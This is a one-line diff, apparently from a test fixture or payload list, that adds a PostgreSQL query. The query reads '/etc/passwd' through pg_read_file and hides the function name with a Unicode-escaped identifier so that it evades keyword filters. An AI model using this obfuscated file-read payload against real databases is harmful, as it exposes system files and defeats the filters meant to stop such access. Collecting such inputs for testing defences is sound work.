@@ -1,0 +1,1 @@
+SELECT U&"pg_read\005ffile"('/etc/passwd')
